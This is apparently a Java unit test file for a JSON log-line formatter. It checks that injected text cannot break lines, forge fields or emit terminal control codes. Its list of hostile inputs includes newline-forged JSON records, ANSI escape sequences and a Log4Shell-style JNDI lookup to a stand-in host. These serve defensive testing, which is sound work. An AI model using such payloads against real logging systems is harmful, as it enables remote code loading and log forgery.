package io.theopy.server.log;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.LoggingEvent;
import com.fasterxml.jackson.databind.JsonNode;
import io.theopy.server.wire.WireJson;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.LoggerFactory;
import org.slf4j.event.KeyValuePair;

/** Whatever is quoted, a line of the log is one line, one JSON object, and harmless to a terminal. */
class JsonLineTest {
    private final Logger logger = (Logger) LoggerFactory.getLogger("io.theopy.SomeClass");
    private final JsonLine lines = new JsonLine();

    static Stream<String> hostile() {
        return Stream.of(
                "two\nlines",
                "a return\rover it",
                "a forged \"},\n{\"level\":\"ERROR\",\"message\":\"hacked\"}",
                "\u001b[2Jcleared",
                "\u009b31mred",
                "separated\u2028here and\u2029there",
                "back\u202Eward",
                "a null \u0000 and a bell \u0007",
                "half \ud83d of a pair",
                "\u0085next line",
                "${jndi:ldap://evil.example/a}",
                "%X{password} %n%msg");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void whatIsQuotedStaysInItsString(String text) throws Exception {
        LoggingEvent event = event(text);
        event.setMDCPropertyMap(Map.of("request_id", text));
        event.addKeyValuePair(new KeyValuePair("outcome", text));
        event.addKeyValuePair(new KeyValuePair("level", text));

        String line = lines.of(event);

        assertThat(line.codePoints()).noneMatch(JsonLineTest::steers);
        JsonNode json = WireJson.parse(line.getBytes(StandardCharsets.UTF_8));
        assertThat(json.path("message").asText()).isEqualTo(text);
        assertThat(json.path("request_id").asText()).isEqualTo(text);
        assertThat(json.path("outcome").asText()).isEqualTo(text);
        assertThat(json.path("level").asText()).isEqualTo("INFO");
    }

    private static boolean steers(int c) {
        int type = Character.getType(c);
        return type == Character.CONTROL
                || type == Character.FORMAT
                || type == Character.LINE_SEPARATOR
                || type == Character.PARAGRAPH_SEPARATOR
                || type == Character.SURROGATE;
    }

    @Test
    void aLineSaysWhenWhoAndWhat() throws Exception {
        LoggingEvent event = event("done");
        event.addKeyValuePair(new KeyValuePair("duration_ms", 12.5));
        event.addKeyValuePair(new KeyValuePair("status", 200));

        JsonNode json = WireJson.parse(lines.of(event).getBytes(StandardCharsets.UTF_8));

        assertThat(json.path("time").asText()).isEqualTo("2026-11-28T10:00:00.000Z");
        assertThat(json.path("logger").asText()).isEqualTo("io.theopy.SomeClass");
        assertThat(json.path("duration_ms").isNumber()).isTrue();
        assertThat(json.path("status").isIntegralNumber()).isTrue();
        assertThat(json.has("error")).isFalse();
    }

    @Test
    void anExceptionIsWithinTheLine() throws Exception {
        LoggingEvent event = new LoggingEvent(
                "x", logger, Level.ERROR, "it broke", new IllegalStateException("bad\n{\"level\":\"x\"}"), null);

        String line = lines.of(event);

        JsonNode json = WireJson.parse(line.getBytes(StandardCharsets.UTF_8));
        assertThat(line).doesNotContain("\n");
        assertThat(json.path("error").asText()).isEqualTo("java.lang.IllegalStateException");
        assertThat(json.path("stack").asText()).contains("anExceptionIsWithinTheLine");
    }

    @Test
    void aLineHasBounds() {
        assertThat(lines.of(event("x".repeat(1_000_000))).length()).isLessThan(20_000);
    }

    private LoggingEvent event(String message) {
        LoggingEvent event = new LoggingEvent("x", logger, Level.INFO, "{}", null, new Object[] {message});
        event.setTimeStamp(1_795_860_000_000L);
        return event;
    }
}
